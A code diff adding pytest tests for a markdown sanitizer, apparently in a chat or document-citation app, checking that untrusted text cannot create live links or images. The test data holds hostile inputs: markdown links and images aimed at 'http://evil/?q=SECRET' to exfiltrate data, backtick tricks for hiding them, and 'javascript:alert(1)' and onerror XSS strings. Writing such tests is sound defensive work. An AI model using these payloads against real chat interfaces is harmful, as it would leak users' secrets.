@@ -13,6 +13,7 @@ from html.parser import HTMLParser
 import pytest
 from markdown_it import MarkdownIt
 
+from tests.ui.markdown_check import dangers
 from xnai.domain.models import Citation
 from xnai.ui.render import citation_markdown, escape_text, safe_markdown
 
@@ -31,10 +32,15 @@ HOSTILE = [
 ]
 
 md = MarkdownIt("commonmark", {"html": True})
+gfm = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 
 
 def render(text: str) -> str:
     return md.render(text)
+
+
+def render_gfm(text: str) -> str:
+    return gfm.render(text)
 
 
 class _Tags(HTMLParser):
@@ -69,8 +75,10 @@ def test_escape_text_renders_exactly_the_text(payload: str) -> None:
 
 
 def _text_of(html: str) -> str:
-    """The text of markdown-it's paragraphs, one per line (entities decoded)."""
+    """The text of markdown-it's paragraphs, one per line (entities decoded); web
+    addresses are shown as code, so they are not links."""
     inner = re.sub(r"</p>\s*<p>", "\n", html.strip())
+    inner = re.sub(r"</?code>", "", inner)
     return html_lib.unescape(re.sub(r"^<p>|</p>$", "", inner))
 
 
@@ -126,3 +134,60 @@ def test_a_source_element_shows_title_path_and_quote_as_text() -> None:
     assert "&lt;img src=x onerror=alert(1)&gt;" in html
     assert "upload:evil_[x](y).md, characters 10–42" in html
     assert "<hr />" in html and "First line with &lt;b&gt;tags&lt;/b&gt;" in html
+
+
+def test_backticks_across_blocks_do_not_shield_a_link() -> None:
+    # A backtick in a heading and one two lines down are not a code span: blocks end first.
+    text = "# `\n[Verify](http://evil/?q=SECRET)\n`"
+    out = safe_markdown(text)
+    assert dangers(out) == [], out
+    assert "<code>http://evil/?q=SECRET</code>" in render(out)  # the target, shown as text
+
+
+def test_backtick_in_fence_info_does_not_shield_an_image() -> None:
+    # A backtick fence's info string cannot hold a backtick, so this opens no fence.
+    text = "```x`\n![i](http://evil/?q=S)"
+    out = safe_markdown(text)
+    assert dangers(out) == [], out
+    assert "<img" not in render(out) and "i (<code>http://evil/?q=S</code>)" in render(out)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Go to http://203.0.113.1/x?q=SECRET now",
+        "Mail admin@example.org today",
+        "Visit www.example.org.",
+    ],
+)
+def test_escaped_web_and_mail_addresses_do_not_become_links(text: str) -> None:
+    # The chat links bare addresses in text even when their punctuation is escaped.
+    assert dangers(escape_text(text)) == [], escape_text(text)
+    assert dangers(safe_markdown(text)) == [], safe_markdown(text)
+    assert dangers(citation_markdown(_citation(text))) == []
+
+
+def test_relative_links_and_citations_survive() -> None:
+    out = safe_markdown("See [the guide](../how-to/ingest.md#top) and [2].")
+    assert '<a href="../how-to/ingest.md#top">the guide</a>' in render(out)
+    assert out.endswith("[2].")
+
+
+@pytest.mark.parametrize(
+    "href", ["//203.0.113.1/x", "/\\203.0.113.1/x", "javascript:alert(1)", "HTTPS:x", "%2F%2Fe"]
+)
+def test_links_that_leave_the_server_show_their_target_as_text(href: str) -> None:
+    out = safe_markdown(f"[click]({href})")
+    assert dangers(out) == [], out
+    assert "<a " not in render(out) and "click" in render(out)
+
+
+def test_tables_and_strikethrough_survive_without_links() -> None:
+    text = "| a | b |\n|:--|--:|\n| `x|y` | [t](http://e.org/) |\n\n~~old~~ new"
+    html = render_gfm(safe_markdown(text))
+    assert "<table>" in html and '<th style="text-align:left">a</th>' in html
+    assert "<s>old</s>" in html and "<a " not in html
+
+
+def _citation(text: str) -> Citation:
+    return Citation(1, "d1", "c1", text, "upload:a.md", 0, len(text), 0.9, text)
